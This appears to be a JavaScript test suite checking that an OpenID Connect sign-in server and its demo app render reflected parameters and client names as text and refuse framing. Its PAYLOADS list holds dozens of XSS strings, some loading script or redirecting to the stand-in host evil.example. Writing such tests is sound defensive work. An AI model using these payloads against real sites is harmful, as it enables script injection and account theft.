// Text that comes from outside — from a request, from a client's record, from the demonstration's own address — is shown as text or not
// at all. Every payload goes into every field that anything could be reflected from.

import assert from "node:assert/strict";

import { appOfTests } from "./app.js";
import { RelyingParty } from "./relying_party.js";
import { DEMO, ISSUER, addClient, freshName } from "./system.js";
import { check } from "./window.js";

/** @typedef {import("./window.js").Window} Window */

const app = appOfTests();

/** Each would call `alert`, load something or leave the page if any page read it as markup, script or address. */
const PAYLOADS = [
  "<script>alert(1)</script>",
  "<ScRiPt>alert(1)</sCrIpT>",
  "<script src=//evil.example/x.js></script>",
  "</title><script>alert(1)</script>",
  "</script><script>alert(1)</script>",
  '"><script>alert(1)</script>',
  "'><script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  '"><img src=x onerror=alert(1)>',
  "<svg onload=alert(1)>",
  "<svg><script>alert(1)</script></svg>",
  "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
  "<math><mtext><img src=x onerror=alert(1)></mtext></math>",
  "<iframe src=javascript:alert(1)>",
  "<iframe srcdoc='<script>alert(1)</script>'>",
  "<object data=javascript:alert(1)>",
  "<embed src=javascript:alert(1)>",
  "<body onload=alert(1)>",
  "<details open ontoggle=alert(1)>x</details>",
  "<input autofocus onfocus=alert(1)>",
  "<select autofocus onfocus=alert(1)>",
  "<video><source onerror=alert(1)></video>",
  "<a href=javascript:alert(1)>x</a>",
  "<form action=javascript:alert(1)><button>x</button></form>",
  "<base href=//evil.example/>",
  "<meta http-equiv=refresh content=0;url=//evil.example/>",
  "<link rel=stylesheet href=//evil.example/x.css>",
  "<style>*{background:url(//evil.example/x)}</style>",
  "<template><script>alert(1)</script></template>",
  "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
  "<!--><img src=x onerror=alert(1)>-->",
  "javascript:alert(1)",
  "JaVaScRiPt:alert(1)",
  "data:text/html,<script>alert(1)</script>",
  "//evil.example/%2f..",
  "' onmouseover=alert(1) x='",
  '" autofocus onfocus=alert(1) x="',
  "{{constructor.constructor('alert(1)')()}}",
  "${alert(1)}",
  "&lt;script&gt;alert(1)&lt;/script&gt;",
  "&#60;img src=x onerror=alert(1)&#62;",
  "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
  "__proto__",
  "constructor",
];

/** All of them at once, for fields of any length. */
const ALL = PAYLOADS.join(" ");

/**
 * Nothing but the page's own elements stands in the document, and no dialog, violation or error was seen.
 * @param {Window} window
 * @param {string} what
 */
async function checkUnharmed(window, what) {
  const found = await window.page.evaluate(() => {
    // The favicon and the issuer's mark are the page's own.
    const strange = "main :is(script,img,svg,math,iframe,object,embed,video,style,base,meta,link,template,select)";
    const handlers = [...document.querySelectorAll("*")].filter((element) =>
      element.getAttributeNames().some((name) => name.startsWith("on")),
    );
    return {
      strange: [...document.querySelectorAll(strange)].map(({ outerHTML }) => outerHTML),
      inline: [...document.querySelectorAll("script:not([src]):not([type=importmap])")].map(({ outerHTML }) => outerHTML),
      handlers: handlers.map(({ outerHTML }) => outerHTML),
      links: [...document.querySelectorAll("a")].map(({ protocol }) => protocol).filter((protocol) => !/^https?:$/.test(protocol)),
    };
  });
  assert.deepEqual(found, { strange: [], inline: [], handlers: [], links: [] }, what);
  assert.deepEqual(window.complaints, [], what);
}

check("parameters of an authorization request", async (window) => {
  const party = await RelyingParty.register(app, "none", "--name", "Plain app");
  for (const payload of PAYLOADS) {
    const fields = { state: ALL, login_hint: payload, nonce: payload, ui_locales: ALL, acr_values: ALL, display: ALL };
    const { url } = await party.begin(fields);
    url.searchParams.append(payload, payload);
    await window.visit(url);
    await window.heading("Sign in to Plain app");
    assert.equal(await window.page.getByLabel("User name").inputValue(), payload.length <= 100 ? payload : "");
    await checkUnharmed(window, payload);
  }
  const { parameters } = await window.arrivalOf(app, () => window.press("Do not sign in"));
  assert.equal(parameters.get("state"), ALL);
});

check("who asks, where the answer goes, and for what", async (window) => {
  const party = await RelyingParty.register(app, "none", "--name", "Plain app");
  const before = app.arrivals.length;
  const changes = PAYLOADS.flatMap((payload) => [{ redirect_uri: payload }, { redirect_uri: `${app.redirectUri}#${payload}` }]);
  for (const change of [...changes, { client_id: ALL }, { redirect_uri: ALL }, { client_id: "javascript:alert(1)" }]) {
    const { url } = await party.begin(change);
    await window.visit(url);
    await window.page.getByRole("alert").waitFor();
    assert.equal(window.page.url(), url.href);
    await checkUnharmed(window, JSON.stringify(change));
  }
  assert.equal(app.arrivals.length, before);
  // Errors go to the app, with words of the page and none of the request's.
  for (const name of ["scope", "prompt", "response_type", "max_age", "claims", "resource", "id_token_hint", "response_mode"]) {
    const begun = await party.begin({ [name]: ALL });
    const { parameters } = await window.arrivalAfter(app, begun.url);
    assert.ok(parameters.has("error"), name);
    assert.match(`${parameters.get("error")} ${parameters.get("error_description")}`, /^[a-zA-Z0-9_ :,.-]+$/, name);
  }
});

check("names of clients are shown as they are", async (window) => {
  const id = freshName("named");
  for (const payload of PAYLOADS) {
    await addClient(id, "spa", [app.redirectUri], "--name", payload, "--scope", "openid");
    const query = new URLSearchParams({
      client_id: id,
      redirect_uri: app.redirectUri,
      response_type: "code",
      scope: "openid",
      code_challenge: "A".repeat(43),
      code_challenge_method: "S256",
    });
    await window.visit(`${ISSUER}/authorize?${query}`);
    await window.heading(/^Sign in to /);
    assert.equal(await window.page.locator("h1").textContent(), `Sign in to ${payload}`);
    assert.ok((await window.page.title()).startsWith(`Sign in to ${payload} – `));
    await checkUnharmed(window, payload);
    await window.visit(`${ISSUER}/logout?${new URLSearchParams({ client_id: id })}`);
    await window.page.getByText(`${payload} asks you to sign out`, { exact: false }).waitFor();
    await checkUnharmed(window, payload);
  }
});

check("parameters of the other pages", async (window) => {
  const pages = {
    "/logout": ["id_token_hint", "client_id", "post_logout_redirect_uri", "state", "ui_locales"],
    "/account": ["error", "error_description", "code", "state", "iss"],
    "/enrol": ["ui_locales", "error"],
    "/": ["error", "ui_locales"],
  };
  for (const [path, names] of Object.entries(pages)) {
    for (const one of names) {
      for (const parameters of [{ [one]: ALL }, Object.fromEntries(names.map((name) => [name, ALL]))]) {
        await window.visit(`${ISSUER}${path}?${new URLSearchParams(parameters)}#${encodeURIComponent(ALL)}`);
        await window.settled();
        await checkUnharmed(window, `${path} ${one}`);
      }
    }
  }
});

check("what the demonstration says went wrong", async (window) => {
  for (const payload of [...PAYLOADS, ALL]) {
    await window.visit(`${DEMO}/?${new URLSearchParams({ error: payload, error_description: payload, iss: payload })}`);
    const alert = await window.alert();
    assert.ok(alert.replaceAll(/\s+/g, " ").includes(payload), `${alert} does not show ${payload}`);
    await checkUnharmed(window, payload);
  }
  // What comes back from an issuer is put into words by the demonstration's server.
  for (const parameters of [{ error: ALL, state: ALL, iss: ALL }, { code: ALL, state: ALL, iss: ISSUER }]) {
    await window.visit(`${DEMO}/callback?${new URLSearchParams(parameters)}`);
    assert.match(await window.alert(), /That did not work/);
    await checkUnharmed(window, JSON.stringify(parameters));
  }
});

check("another site cannot put a page into a frame", async (window) => {
  const party = await RelyingParty.register(app, "none", "--silent");
  await window.enrol("framed");
  await party.signIn(window);
  await window.touch(true);
  const { url } = await party.begin({ prompt: "login" });
  const silent = await party.begin();
  const targets = [url.href, silent.url.href, `${ISSUER}/account`, `${ISSUER}/logout`, `${ISSUER}/enrol`, `${ISSUER}/`, `${DEMO}/`];
  for (const target of targets) {
    app.files.set("/frame.html", {
      type: "text/html",
      body: `<!doctype html><html lang="en"><title>Frame</title><iframe title="framed" src="${target.replaceAll("&", "&amp;")}"></iframe>`,
    });
    const before = app.arrivals.length;
    await window.page.goto(`${app.origin}/frame.html`, { waitUntil: "load" });
    // The browser puts a page of its own in its place.
    await window.page.frames()[1]?.waitForURL("chrome-error://**");
    assert.equal(app.arrivals.length, before, target);
  }
  // The browser says that it refused, once for each; nothing else may be said.
  const refusals = window.complaints.splice(0);
  assert.equal(refusals.filter((text) => !/frame-ancestors|X-Frame-Options|chrome-error/.test(text)).length, 0, refusals.join("\n"));
  assert.ok(refusals.length >= targets.length);
});
